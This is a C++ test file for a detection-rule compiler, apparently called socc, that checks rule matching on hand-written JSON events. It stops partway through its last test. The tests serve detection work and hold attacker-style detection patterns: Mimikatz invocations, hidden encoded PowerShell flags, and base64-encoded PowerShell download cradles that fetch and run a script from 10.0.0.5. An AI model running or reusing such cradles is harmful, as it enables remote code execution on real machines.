// The matching constructs end to end: each test compiles a small pack from
// source, decodes hand-written JSON events with runtime::Decoder (which also
// computes the derived slots of field functions), and holds both the JIT
// matcher of every rule and the reference evaluator (ir::evaluate, which
// derives values on its own) against the answer worked out by hand.

#include <doctest/doctest.h>

#include <algorithm>
#include <cstring>
#include <sstream>
#include <string>
#include <vector>

#include "compiler/driver/commands.h"
#include "compiler/ir/evaluate.h"
#include "compiler/ir/print.h"
#include "runtime/decoder.h"
#include "test_support.h"

using namespace socc;
using namespace socc::testing;

namespace {

// Rule names, sorted and joined by spaces, so that an expectation does not
// depend on the order of rules in the pack.
std::string sorted_names(std::vector<std::string> names) {
  std::sort(names.begin(), names.end());
  std::string out;
  for (const auto& name : names) out += (out.empty() ? "" : " ") + name;
  return out;
}

std::string normalized(const std::string& expected) {
  std::istringstream in(expected);
  std::vector<std::string> names;
  for (std::string name; in >> name;) names.push_back(name);
  return sorted_names(names);
}

// Which rules hold on one event, by the generated code and by the reference
// evaluator.
struct Holds {
  std::string jit;
  std::string reference;
};

class Matcher {
 public:
  explicit Matcher(const std::string& source) : compilation_(compile_source(source)) {
    REQUIRE_MESSAGE(compilation_->ok(), rendered_diagnostics(*compilation_));
    REQUIRE(compilation_->compiled != nullptr);
    decoder_ = std::make_unique<runtime::Decoder>(pack().slots);
    slots_.resize(std::max<size_t>(pack().slots.size(), 1));
  }

  const ir::Pack& pack() const { return compilation_->pack; }

  int slot(const std::string& path) const {
    for (size_t i = 0; i < pack().slots.size(); ++i) {
      if (pack().slots[i].path == path) return static_cast<int>(i);
    }
    FAIL("no slot ", path);
    return -1;
  }

  // Conditions only: the schemas in these tests have no `select`.
  Holds holds(const socc_slot* slots) const {
    std::vector<std::string> jit;
    std::vector<std::string> reference;
    for (size_t r = 0; r < pack().rules.size(); ++r) {
      const ir::Rule& rule = pack().rules[r];
      if (compilation_->compiled->rule(r)(slots) != 0) jit.push_back(rule.name);
      if (ir::evaluate(pack(), rule.condition, slots)) reference.push_back(rule.name);
    }
    return {sorted_names(jit), sorted_names(reference)};
  }

  Holds holds(const std::string& line) {
    std::string error;
    REQUIRE_MESSAGE(decoder_->decode(line, slots_.data(), &error), error);
    return holds(slots_.data());
  }

  // Slots filled by hand, for values JSON cannot carry (invalid UTF-8); the
  // deriver of the pack fills the derived ones as the decoder would.
  Holds holds_text(const std::string& path, const std::string& text) {
    std::vector<socc_slot> slots(slots_.size());
    std::memset(slots.data(), 0, sizeof(socc_slot) * slots.size());
    socc_slot& s = slots[slot(path)];
    s.present = 1;
    s.data = text.data();
    s.size = text.size();
    runtime::Deriver deriver(pack().slots);
    deriver.fill(slots.data());
    return holds(slots.data());
  }

  // The IR of one rule as `socc explain` prints it.
  std::string explain(const std::string& name) const {
    for (size_t r = 0; r < pack().rules.size(); ++r) {
      if (pack().rules[r].name == name) return ir::print_rule(pack(), static_cast<int>(r));
    }
    FAIL("no rule ", name);
    return {};
  }

 private:
  std::unique_ptr<driver::Compilation> compilation_;
  std::unique_ptr<runtime::Decoder> decoder_;
  std::vector<socc_slot> slots_;
};

// Each case: an event line and the rules (space separated, any order) that
// must hold on it; all others must not.
using Cases = std::vector<std::pair<std::string, std::string>>;

void expect(Matcher& matcher, const Cases& cases) {
  for (const auto& [line, expected] : cases) {
    CAPTURE(line);
    Holds holds = matcher.holds(line);
    CHECK(holds.jit == normalized(expected));
    CHECK(holds.reference == normalized(expected));
  }
}

// A detection per condition, named by the key; all on schema E.
std::string pack_source(const std::string& schema_fields,
                        const std::vector<std::pair<std::string, std::string>>& rules,
                        const std::string& extra = "") {
  std::string source = "schema E {\n" + schema_fields + "\n}\n" + extra + "\n";
  int id = 0;
  for (const auto& [name, condition] : rules) {
    source += "detection " + name + " { id \"" + std::to_string(++id) +
              "\" title \"t\" severity low on E where " + condition + " }\n";
  }
  return source;
}

// For each (expression, value): `expr == value` must hold on `line` and
// `expr != value` must not; on an event without the fields neither holds.
void expect_values(const std::string& schema_fields, const std::string& line,
                   const std::vector<std::pair<std::string, std::string>>& values) {
  std::vector<std::pair<std::string, std::string>> rules;
  std::string expected;
  for (size_t i = 0; i < values.size(); ++i) {
    const auto& [expr, value] = values[i];
    rules.push_back({"eq" + std::to_string(i), expr + " == " + value});
    rules.push_back({"ne" + std::to_string(i), expr + " != " + value});
    expected += " eq" + std::to_string(i);
  }
  Matcher matcher(pack_source(schema_fields, rules));
  expect(matcher, {{line, expected}, {"{}", ""}});
}

}  // namespace

TEST_CASE("matching: glob wildcards, escapes and case") {
  Matcher m(pack_source(R"(
  cmd: string = "cmd"
  name: string = "name")",
                        {
                            {"general", R"(cmd like "a*b?c")"},
                            {"general_cs", R"(cmd like cs "A*b?C")"},
                            // `[*]` and `[?]` are a literal `*` and `?`; the glob
                            // stays a glob.
                            {"escaped", R"(cmd like '*[*]?[?]')"},
                            // A backslash is an ordinary character, even before a
                            // wildcard.
                            {"backslash", R"(cmd like 'x\\y\z?')"},
                            {"before_star", R"(cmd like 'x\*')"},
                            {"bracket", R"(cmd like '[[]*]')"},
                            {"one_char", R"(name like "caf?")"},
                            {"two_chars", R"(name like "caf??")"},
                        }));
  expect(m, {
                {R"({"cmd":"abc"})", ""},  // `?` needs a character between b and c
                {R"({"cmd":"abxc"})", "general"},
                {R"({"cmd":"a--b-c"})", "general"},
                {R"({"cmd":"AXXBYC"})", "general"},
                {R"({"cmd":"AxxbyC"})", "general general_cs"},
                {R"({"cmd":"axxbyC"})", "general"},
                {R"({"cmd":"abxcd"})", ""},  // a glob matches the whole value
                {R"({"cmd":"a*b?"})", "escaped"},
                {R"({"cmd":"zz*x?"})", "escaped"},
                {R"({"cmd":"a*bb?"})", ""},
                {R"({"cmd":"axb?"})", ""},
                {R"({"cmd":"x\\\\y\\z!"})", "backslash before_star"},
                {R"({"cmd":"X\\\\Y\\Z!"})", "backslash before_star"},
                {R"({"cmd":"x\\y\\z!"})", "before_star"},
                {R"({"cmd":"x\\"})", "before_star"},
                {R"({"cmd":"x*"})", ""},
                {R"({"cmd":"[x]"})", "bracket"},
                {R"({"cmd":"[]"})", "bracket"},
                {R"({"cmd":"x]"})", ""},
                // é is two bytes and one character: one `?` takes it whole.
                {R"({"name":"café"})", "one_char"},
                {R"({"name":"CAFÉ"})", "one_char"},
                {R"({"name":"cafe"})", "one_char"},
                {R"({"name":"caf"})", ""},
                {R"({"name":"cafés"})", "two_chars"},
                {R"({"name":"caf\u00e9"})", "one_char"},
                // U+1F600 is four bytes, one character.
                {R"({"name":"caf\ud83d\ude00"})", "one_char"},
                {R"({})", ""},
                {R"({"cmd":null,"name":null})", ""},
            });
}

TEST_CASE("matching: globs that only anchor a literal lower to string tests") {
  Matcher m(pack_source(R"(
  image: string = "image")",
                        {
                            {"ends", R"(image like '*\cmd.exe')"},
                            {"inside", R"(image like '*\temp\*')"},
                            {"starts", R"(image like 'C:\Windows\*')"},
                            // `[*]` is a literal star: no wildcard is left.
                            {"equal", R"(image like 'C:\Windows[*]')"},
                            {"anything", R"(image like "*")"},
                            {"ends_star", R"(image like '*[*]')"},
                            {"stays", R"(image like '*\cmd.ex?')"},
                        }));
  // What `socc explain` shows: the simplified operator with escapes resolved.
  CHECK(m.explain("ends").find(R"(endswith slot#0<string> "image" "\cmd.exe")") !=
        std::string::npos);
  CHECK(m.explain("inside").find(R"(contains slot#0<string> "image" "\temp\")") !=
        std::string::npos);
  CHECK(m.explain("starts").find(R"(startswith slot#0<string> "image" "C:\Windows\")") !=
        std::string::npos);
  CHECK(m.explain("equal").find(R"(eq slot#0<string> "image" "C:\Windows*")") != std::string::npos);
  CHECK(m.explain("anything").find(R"(exists slot#0<string> "image")") != std::string::npos);
  CHECK(m.explain("ends_star").find(R"(endswith slot#0<string> "image" "*")") != std::string::npos);
  CHECK(m.explain("stays").find(R"(like slot#0<string> "image")") != std::string::npos);

  expect(m, {
                {R"({"image":"C:\\Windows\\System32\\CMD.EXE"})", "ends starts anything stays"},
                {R"({"image":"C:\\Users\\x\\AppData\\Local\\Temp\\cmd.exe"})",
                 "ends inside anything stays"},
                {R"({"image":"C:\\WindowsApps\\cmd.exe"})", "ends anything stays"},
                {R"({"image":"c:\\windows*"})", "equal anything ends_star"},
                {R"({"image":"cmd.exe"})", "anything"},  // no backslash before cmd
                {R"({"image":"D:\\x\\cmd.exf"})", "anything stays"},
                {R"({"image":""})", "anything"},  // `*` holds for any present value
                {R"({})", ""},
                {R"({"image":7})", "anything"},  // a number reads as its text
            });
}

// `socc explain` shows a glob that stays a glob in the language's syntax,
// not in the runtime's escaping (backslash doubled, `[*]` as `\*`), which
// the language would read as another pattern.
TEST_CASE("matching: explain shows a glob as the language writes it") {
  Matcher m(pack_source(R"(
  image: string = "image")",
                        {
                            {"path", R"(image like '*\cmd.ex?')"},
                            {"star", R"(image like '*[*]x?')"},
                        }));
  CHECK(m.explain("path").find(R"(like slot#0<string> "image" "*\cmd.ex?")") != std::string::npos);
  CHECK(m.explain("star").find(R"(like slot#0<string> "image" "*[*]x?")") != std::string::npos);
}

// A glob matches characters (docs/language.md §7.4; glob.h: a literal must
// cover whole ones), so a stray continuation byte does not match the second
// byte of "é". The lowering of `*x`, `*x*` and `x*` to byte-wise string
// tests applies only to valid UTF-8 literals, where bytes and characters
// agree; the answer must not depend on the shape of the pattern.
TEST_CASE("matching: a simplified glob keeps character semantics") {
  Matcher m(pack_source(R"(
  name: string = "name")",
                        {
                            {"general", R"(name like "?*\xa9")"},
                            {"ends", R"(name like "*\xa9")"},
                            {"inside", R"(name like "*\xa9*")"},
                            {"starts", R"(name like "\xc3*")"},
                        }));
  expect(m, {
                {R"({"name":"café"})", ""},
                {R"({"name":"éa"})", ""},
            });
}

TEST_CASE("matching: regular expressions search, ignore case unless cs") {
  Matcher m(
      pack_source(R"(
  cmd: string = "cmd")",
                  {
                      {"folded", R"(cmd matches 'invoke-[a-z]+')"},
                      {"exact", R"(cmd matches cs 'Invoke-[A-Z][a-z]+')"},
                      {"anchored", R"(cmd matches '^cmd\.exe$')"},
                      {"encoded", R"(cmd matches '\s-e(nc?|ncodedcommand)?\s+[A-Za-z0-9+/=]{8}')"},
                  }));
  CHECK(m.explain("exact").find("matches.cs slot#0<string>") != std::string::npos);
  CHECK(m.explain("folded").find("matches slot#0<string>") != std::string::npos);
  expect(m, {
                {R"({"cmd":"invoke-mimikatz"})", "folded"},
                {R"({"cmd":"powershell IEX; INVOKE-MIMIKATZ -dump"})", "folded"},
                {R"({"cmd":"Invoke-Mimikatz"})", "folded exact"},
                {R"({"cmd":"invoke-Mimikatz"})", "folded"},
                {R"({"cmd":"Invoke-mimikatz"})", "folded"},
                {R"({"cmd":"Invoke-"})", ""},
                {R"({"cmd":"CMD.EXE"})", "anchored"},
                {R"({"cmd":"c:\\cmd.exe"})", ""},
                {R"({"cmd":"cmdxexe"})", ""},  // the dot is escaped
                {R"({"cmd":"powershell.exe -EncodedCommand SQBFAFgA"})", "encoded"},
                {R"({"cmd":"powershell.exe -e SQBFAFgAIAAo"})", "encoded"},
                {R"({"cmd":"powershell.exe -ec SQBFAFgA"})", ""},
                {R"({})", ""},
            });
}

TEST_CASE("matching: regular expressions over text that is not UTF-8") {
  Matcher m(pack_source(R"(
  cmd: string = "cmd")",
                        {
                            {"word", R"(cmd matches 'powershell')"},
                            {"one", R"(cmd matches '^a.b$')"},
                            {"across", R"(cmd matches 'a.*b')"},
                            {"any_byte", R"(cmd matches '^a\Cb$')"},
                            {"y_diaeresis", R"(cmd matches '^\xff')"},
                            {"prefix", R"(cmd startswith "a")"},
                        }));
  // simdjson rejects invalid UTF-8, so these values come from elsewhere (a
  // test block's "\xff" escape, say); the slots are filled by hand. Per
  // §7.5 a byte outside valid UTF-8 matches nothing but `\C`.
  auto check = [&](const std::string& text, const std::string& expected) {
    CAPTURE(text);
    Holds holds = m.holds_text("cmd", text);
    CHECK(holds.jit == normalized(expected));
    CHECK(holds.reference == normalized(expected));
  };
  check("\xff\xfePowerShell -nop", "word");
  check(
      "a\xff"
      "b",
      "any_byte prefix");
  check(
      "a\xc3"
      "b",
      "any_byte prefix");  // a truncated sequence
  check(
      "a\xc3\xa9"
      "b",
      "one across prefix");
  check(
      "a\xc3\xa9\xff"
      "b",
      "prefix");
  check("\xff", "");                 // `\xff` in RE2 is U+00FF, not the byte
  check("\xc3\xbf", "y_diaeresis");  // U+00FF
  check("\xc5\xb8", "y_diaeresis");  // U+0178, its capital: RE2 folds Unicode
}

TEST_CASE("matching: only regular expressions fold non-ASCII letters") {
  Matcher m(pack_source(R"(
  name: string = "name")",
                        {
                            {"regex", R"(name matches 'été')"},
                            {"regex_cs", R"(name matches cs 'été')"},
                            {"substring", R"(name contains "été")"},
                            {"glob", R"(name like "*été*")"},
                            {"lowered", R"(lower(name) contains cs "été")"},
                        }));
  expect(m, {
                {R"({"name":"C:\\été\\x"})", "regex regex_cs substring glob lowered"},
                {R"({"name":"C:\\ÉTÉ\\x"})", "regex"},
                {R"({"name":"C:\\Été\\x"})", "regex"},
                {R"({"name":"C:\\éTé\\x"})", "regex substring glob lowered"},
            });
}

TEST_CASE("matching: any and all before a list") {
  Matcher m(pack_source(
      R"(
  cmd: string = "cmd")",
      {
          {"some", R"(cmd contains any ["-nop", "-enc"])"},
          {"default_some", R"(cmd contains ["-nop", "-enc"])"},
          {"every", R"(cmd contains all ["-nop", "-enc"])"},
          {"all_cs", R"(cmd contains cs all ["-NoP", "-Enc"])"},
          {"starts_any", R"(cmd startswith any ["powershell", "pwsh"])"},
          {"ends_all", R"(cmd endswith all flags)"},
          {"like_all", R"(cmd like all ['*hidden*', '*bypass*'])"},
          {"matches_any", R"(cmd matches any ['^cmd\b', 'x{3}$'])"},
      },
      R"(list flags = ['.ps1', 'a.ps1'])"));
  expect(m, {
                {R"({"cmd":"powershell -nop -w hidden"})", "some default_some starts_any"},
                {R"({"cmd":"pwsh -NOP -ENC abc"})", "some default_some every starts_any"},
                {R"({"cmd":"pwsh -NoP -Enc abc"})", "some default_some every all_cs starts_any"},
                {R"({"cmd":"powershell -ep bypass -w hidden .\\a.ps1"})",
                 "starts_any ends_all like_all"},
                {R"({"cmd":"powershell .\\b.ps1 -w hidden"})", "starts_any"},
                {R"({"cmd":"x .\\b.ps1"})", ""},  // ends with .ps1 but not with a.ps1
                {R"({"cmd":"cmd /c echo xxx"})", "matches_any"},
                {R"({"cmd":"cmdline"})", ""},
                {R"({"cmd":"xx"})", ""},
                {R"({})", ""},
            });
}

TEST_CASE("matching: ip addresses and networks, v4, v6 and mapped") {
  Matcher m(pack_source(R"(
  src: ip = "src"
  dst: ip = "dst")",
                        {
                            {"eq", "src == 10.1.2.3"},
                            {"ne", "src != 10.1.2.3"},
                            {"not_eq", "not src == 10.1.2.3"},
                            {"in_net", "src in 10.0.0.0/8"},
                            {"not_in_net", "src not in 10.0.0.0/8"},
                            {"in_list", "src in watched"},
                            {"v6", R"(src == ip("2001:db8::1"))"},
                            {"same", "src == dst"},
                            {"differ", "src != dst"},
                        },
                        R"(list private: cidr = [172.16.0.0/12, 192.168.1.1]
list watched = [private, ip("::1"), cidr("fe80::/10")])"));
  expect(m, {
                {R"({"src":"10.1.2.3"})", "eq in_net"},
                {R"({"src":"::ffff:10.1.2.3"})", "eq in_net"},
                {R"({"src":"::FFFF:a01:203"})", "eq in_net"},
                {R"({"src":"10.200.0.1"})", "ne not_eq in_net"},
                {R"({"src":"9.255.255.255"})", "ne not_eq not_in_net"},
                {R"({"src":"11.0.0.0"})", "ne not_eq not_in_net"},
                {R"({"src":"172.31.255.255"})", "ne not_eq not_in_net in_list"},
                {R"({"src":"172.32.0.1"})", "ne not_eq not_in_net"},
                {R"({"src":"192.168.1.1"})", "ne not_eq not_in_net in_list"},
                {R"({"src":"192.168.1.2"})", "ne not_eq not_in_net"},
                {R"({"src":"::1"})", "ne not_eq not_in_net in_list"},
                // An IPv6 address is never in an IPv4 network, even with the
                // same low bits.
                {R"({"src":"::a01:203"})", "ne not_eq not_in_net"},
                {R"({"src":"fe80::1"})", "ne not_eq not_in_net in_list"},
                {R"({"src":"febf:ffff::1"})", "ne not_eq not_in_net in_list"},
                {R"({"src":"fec0::1"})", "ne not_eq not_in_net"},
                {R"({"src":"2001:DB8:0:0:0:0:0:1"})", "ne not_eq not_in_net v6"},
                // Unparsable or absent: every comparison is false, `not` true.
                {R"({"src":"-"})", "not_eq"},
                {R"({"src":""})", "not_eq"},
                {R"({"src":"10.1.2"})", "not_eq"},
                {R"({"src":"10.1.2.3.4"})", "not_eq"},
                {R"({"src":"10.1.2.3/32"})", "not_eq"},
                {R"({"src":167838211})", "not_eq"},  // 10.1.2.3 as a number: not read
                {R"({"src":null})", "not_eq"},
                {R"({})", "not_eq"},
                // Field against field.
                {R"({"src":"10.1.2.3","dst":"10.1.2.3"})", "eq in_net same"},
                {R"({"src":"10.1.2.3","dst":"::ffff:10.1.2.3"})", "eq in_net same"},
                {R"({"src":"10.1.2.3","dst":"10.1.2.4"})", "eq in_net differ"},
                {R"({"src":"10.1.2.3","dst":"-"})", "eq in_net"},
                {R"({"src":"-","dst":"-"})", "not_eq"},
            });
}

TEST_CASE("matching: timestamps against literals and offsets") {
  Matcher m(pack_source(R"(
  time: timestamp = "time"
  start: timestamp = "start")",
                        {
                            {"after", "time > 2024-05-01T12:00:00Z"},
                            {"not_after", "not time > 2024-05-01T12:00:00Z"},
                            {"on_day", "time >= 2024-05-01 and time < 2024-05-02"},
                            {"ten_utc", "time == 2024-05-01T12:00:00+02:00"},
                            {"before_start", "time < start"},
                        }));
  expect(m, {
                {R"({"time":"2024-05-01T12:00:00Z"})", "not_after on_day"},
                {R"({"time":"2024-05-01T12:00:00.000001Z"})", "after on_day"},
                {R"({"time":"2024-05-01T14:00:00+02:00"})", "not_after on_day"},
                {R"({"time":"2024-05-01T10:00:00Z"})", "not_after on_day ten_utc"},
                {R"({"time":"2024-05-01T12:00:00+02:00"})", "not_after on_day ten_utc"},
                {R"({"time":"2024-05-01T09:00:00-01:00"})", "not_after on_day ten_utc"},
                // 23:30 UTC on May 1, though May 2 on the clock.
                {R"({"time":"2024-05-02T01:30:00+02:00"})", "after on_day"},
                // 00:30 UTC on May 2, though May 1 on the clock.
                {R"({"time":"2024-05-01T23:30:00-01:00"})", "after"},
                {R"({"time":"2024-04-30T23:59:59.999999Z"})", "not_after"},
                // A space for `T` and no zone: UTC.
                {R"({"time":"2024-05-01 12:30:00"})", "after on_day"},
                {R"({"time":"2024-02-30T00:00:00Z"})", "not_after"},  // no such day
                {R"({"time":"yesterday"})", "not_after"},
                {R"({"time":1714564800})", "not_after"},  // numbers are not times
                {R"({})", "not_after"},
                {R"({"time":"2024-05-01T10:00:00Z","start":"2024-05-01T12:00:00+02:00"})",
                 "not_after on_day ten_utc"},
                {R"({"time":"2024-05-01T10:00:00Z","start":"2024-05-01T12:00:01+02:00"})",
                 "not_after on_day ten_utc before_start"},
                {R"({"start":"2024-05-01T12:00:01Z"})", "not_after"},
            });
}

TEST_CASE("matching: durations read as seconds and compared with literals") {
  Matcher m(pack_source(R"(
  elapsed: duration = "elapsed"
  limit: duration = "limit")",
                        {
                            {"long", "elapsed > 1h30m"},
                            {"at_least_90s", "elapsed >= 90s"},
                            {"exactly_90s", "elapsed == 1m30s"},
                            {"short", "elapsed < 250ms"},
                            {"over_limit", "elapsed > limit"},
                        }));
  expect(m, {
                {R"({"elapsed":90})", "at_least_90s exactly_90s"},
                {R"({"elapsed":90.0})", "at_least_90s exactly_90s"},
                {R"({"elapsed":"90"})", "at_least_90s exactly_90s"},
                {R"({"elapsed":89.9995})", ""},
                {R"({"elapsed":5400})", "at_least_90s"},
                {R"({"elapsed":"5400.000001"})", "long at_least_90s"},
                {R"({"elapsed":0.25})", ""},
                {R"({"elapsed":0.249})", "short"},
                {R"({"elapsed":0})", "short"},
                {R"({"elapsed":-1})", "short"},
                {R"({"elapsed":"1h"})", ""},  // only numbers of seconds
                {R"({"elapsed":"abc"})", ""},
                {R"({"elapsed":null})", ""},
                {R"({})", ""},
                {R"({"elapsed":91,"limit":90})", "at_least_90s over_limit"},
                {R"({"elapsed":90,"limit":90.5})", "at_least_90s exactly_90s"},
                {R"({"elapsed":91})", "at_least_90s"},
            });
}

TEST_CASE("matching: field against field, strings and ints, with one side missing") {
  Matcher m(pack_source(R"(
  user: string = "user"
  owner: string = "owner"
  parent: string = "parent"
  a: int = "a"
  b: int = "b")",
                        {
                            {"same", "user == owner"},
                            {"same_cs", "user == cs owner"},
                            {"differ", "user != owner"},
                            {"not_same", "not user == owner"},
                            {"inside", "parent contains user"},
                            {"prefix_cs", "parent startswith cs user"},
                            {"suffix", "parent endswith user"},
                            {"lowered", "lower(user) == cs user"},
                            {"less", "a < b"},
                            {"equal", "a == b"},
                            {"not_equal", "a != b"},
                        }));
  expect(m, {
                {R"({"user":"Admin","owner":"admin"})", "same"},
                {R"({"user":"admin","owner":"admin"})", "same same_cs lowered"},
                {R"({"user":"bob","owner":"alice"})", "differ not_same lowered"},
                {R"({"user":"Bob","owner":"alice"})", "differ not_same"},
                {R"({"user":"bob"})", "not_same lowered"},
                {R"({"owner":"bob"})", "not_same"},
                {R"({"user":"bob","owner":null})", "not_same lowered"},
                {R"({"user":"Bob","parent":"C:\\Users\\BOB\\x.exe"})", "not_same inside"},
                {R"({"user":"C:\\Users","parent":"C:\\Users\\bob"})", "not_same inside prefix_cs"},
                {R"({"user":"c:\\users","parent":"C:\\Users\\bob"})", "not_same inside lowered"},
                {R"({"user":"BOB","parent":"c:\\home\\bob"})", "not_same inside suffix"},
                {R"({"user":"c:\\home\\bob\\x","parent":"c:\\home\\bob"})", "not_same lowered"},
                // The empty string is a value, and every string holds it.
                {R"({"user":"","owner":"","parent":"x"})",
                 "same same_cs inside prefix_cs suffix lowered"},
                // Without a user, `not user == owner` holds in each of these.
                {R"({"a":1,"b":2})", "not_same less not_equal"},
                {R"({"a":2,"b":2})", "not_same equal"},
                {R"({"a":"0x10","b":16})", "not_same equal"},
                {R"({"a":-5,"b":-4})", "not_same less not_equal"},
                {R"({"a":3,"b":-4})", "not_same not_equal"},
                {R"({"a":1})", "not_same"},
                {R"({"b":1})", "not_same"},
                {R"({"a":1,"b":"two"})", "not_same"},
                {R"({})", "not_same"},
            });
}

TEST_CASE("matching: string field functions") {
  const std::string fields = R"(image: string = "image")";
  expect_values(fields, R"({"image":"C:\\a\\b.exe"})",
                {
                    {"basename(image)", "cs 'b.exe'"},
                    {"dirname(image)", R"(cs 'C:\a')"},
                    {"lower(image)", R"(cs 'c:\a\b.exe')"},
                    {"upper(image)", R"(cs 'C:\A\B.EXE')"},
                    {"length(image)", "10"},
                    {"basename(image)", "'B.EXE'"},  // case-insensitive by default
                });
  // A name without separators: its basename is itself and its dirname the
  // empty string, which is a value (not missing).
  expect_values(fields, R"({"image":"cmd.exe"})",
                {
                    {"basename(image)", "cs 'cmd.exe'"},
                    {"dirname(image)", R"(cs "")"},
                    {"length(dirname(image))", "0"},
                    {"length(image)", "7"},
                });
  expect_values(fields, R"({"image":"/usr/bin/Python3"})",
                {
                    {"basename(image)", "cs 'Python3'"},
                    {"dirname(image)", "cs '/usr/bin'"},
                    {"upper(basename(image))", "cs 'PYTHON3'"},
                    {"basename(dirname(image))", "cs 'bin'"},
                    {"length(image)", "16"},
                });
  // A trailing separator: the basename is empty.
  expect_values(fields, R"({"image":"C:\\dir\\"})",
                {
                    {"basename(image)", R"(cs "")"},
                    {"dirname(image)", R"(cs 'C:\dir')"},
                });
  // Only ASCII letters change case.
  expect_values(fields, R"({"image":"C:\\Été\\X.exe"})",
                {
                    {"lower(image)", R"(cs 'c:\Été\x.exe')"},
                    {"upper(image)", R"(cs 'C:\ÉTé\X.EXE')"},
                    {"basename(lower(image))", "cs 'x.exe'"},
                });
  expect_values(fields, R"({"image":""})",
                {
                    {"basename(image)", R"(cs "")"},
                    {"dirname(image)", R"(cs "")"},
                    {"length(image)", "0"},
                });
}

TEST_CASE("matching: time field functions in UTC, ISO weeks and weekdays") {
  const std::string fields = R"(time: timestamp = "time")";
  // A Sunday that ISO 8601 counts in week 53 of 2020.
  expect_values(fields, R"({"time":"2021-01-03T10:20:30Z"})",
                {{"year(time)", "2021"},
                 {"month(time)", "1"},
                 {"day(time)", "3"},
                 {"hour(time)", "10"},
                 {"minute(time)", "20"},
                 {"week(time)", "53"},
                 {"weekday(time)", "7"}});
  // The Monday after it starts week 1.
  expect_values(fields, R"({"time":"2021-01-04T00:00:00Z"})",
                {{"week(time)", "1"}, {"weekday(time)", "1"}, {"hour(time)", "0"}});
  // 21:59:59 UTC on a Wednesday in week 18.
  expect_values(fields, R"({"time":"2024-05-01T23:59:59+02:00"})",
                {{"year(time)", "2024"},
                 {"month(time)", "5"},
                 {"day(time)", "1"},
                 {"hour(time)", "21"},
                 {"minute(time)", "59"},
                 {"week(time)", "18"},
                 {"weekday(time)", "3"}});
  // The offset moves the date back a year: 23:10 UTC on 2020-12-31, a
  // Thursday in week 53.
  expect_values(fields, R"({"time":"2021-01-01T00:10:00+01:00"})",
                {{"year(time)", "2020"},
                 {"month(time)", "12"},
                 {"day(time)", "31"},
                 {"hour(time)", "23"},
                 {"minute(time)", "10"},
                 {"week(time)", "53"},
                 {"weekday(time)", "4"}});
  // A Monday in December that is week 1 of the next ISO year.
  expect_values(fields, R"({"time":"2024-12-30T08:00:00Z"})",
                {{"year(time)", "2024"}, {"week(time)", "1"}, {"weekday(time)", "1"}});
  // Before 1970: the parts of a negative time.
  expect_values(fields, R"({"time":"1969-12-31T23:59:59.5Z"})",
                {{"year(time)", "1969"},
                 {"month(time)", "12"},
                 {"day(time)", "31"},
                 {"hour(time)", "23"},
                 {"minute(time)", "59"},
                 {"week(time)", "1"},
                 {"weekday(time)", "3"}});
  // 2020-02-29, a leap day.
  expect_values(fields, R"({"time":"2020-02-29T12:00:00Z"})",
                {{"month(time)", "2"}, {"day(time)", "29"}, {"week(time)", "9"}});
}

TEST_CASE("matching: base64offset finds a real PowerShell -EncodedCommand") {
  Matcher m(pack_source(
      R"(
  cmd: string = "cmd")",
      {
          {"iex", R"x(cmd contains base64offset(utf16le("IEX (New-Object Net.WebClient)")))x"},
          {"iex_cs", R"x(cmd contains cs base64offset(wide("IEX (New-Object Net.WebClient)")))x"},
          {"plain", R"(cmd contains base64("whoami"))"},
          {"in_list", "cmd contains encoded"},
      },
      R"(list encoded = [base64(utf16le("whoami")), base64offset("http://")])"));
  // What `powershell -EncodedCommand` takes: base64 of the UTF-16LE script
  // "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
  // encoded outside socc (Python's base64), after prefixes that put "IEX" at
  // byte offsets 0, 10 and 14 (0, 1 and 2 modulo 3).
  const std::string offset0 =
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Adw"
      "BuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAx"
      "ACcAKQA=";
  const std::string offset1 =  // $x=1;IEX ...
      "JAB4AD0AMQA7AEkARQBYACAAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdA"
      "ApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAMAAuADAALgAwAC4ANQAv"
      "AGEALgBwAHMAMQAnACkA";
  const std::string offset2 =  // $abc=1;IEX ...
      "JABhAGIAYwA9ADEAOwBJAEUAWAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQ"
      "BuAHQAKQAuAEQAbwB3AG4AbABvAGEAZABTAHQAcgBpAG4AZwAoACcAaAB0AHQAcAA6AC8ALwAxADAALgAwAC4AMAAu"
      "ADUALwBhAC4AcABzADEAJwApAA==";
  // The same with lower-case "iex": other bytes, not just other case.
  const std::string lower_iex =
      "aQBlAHgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8Adw"
      "BuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAwAC4AMAAuADAALgA1AC8AYQAuAHAAcwAx"
      "ACcAKQA=";
  // "Write-Host (New-Object Net.WebClient)": the object without IEX.
  const std::string write_host =
      "VwByAGkAdABlAC0ASABvAHMAdAAgACgATgBlAHcALQBPAGIAagBlAGMAdAAgAE4AZQB0AC4AVwBlAGIAQwBsAGkAZQ"
      "BuAHQAKQA=";
  std::string swapped = offset0;
  for (char& c : swapped) {
    if (c >= 'a' && c <= 'z') {
      c = static_cast<char>(c - 32);
    } else if (c >= 'A' && c <= 'Z') {
      c = static_cast<char>(c + 32);
    }
  }
  auto line = [](const std::string& encoded) {
    return R"({"cmd":"powershell.exe -NoP -NonI -W Hidden -EncodedCommand )" + encoded + "\"}";
  };
  expect(m, {
                {line(offset0), "iex iex_cs"},
                {line(offset1), "iex iex_cs"},
                {line(offset2), "iex iex_cs"},
                {line(lower_iex), ""},
                {line(write_host), ""},
                // Base64 is case-sensitive; only `cs` tells these apart.
                {line(swapped), "iex"},
                {R"({"cmd":"echo d2hvYW1p | base64 -d"})", "plain"},
                {R"({"cmd":"powershell -e dwBoAG8AYQBtAGkA"})", "in_list"},  // UTF-16LE whoami
                {R"({"cmd":"aHR0cDovL2V4YW1wbGU="})", "in_list"},            // http://example
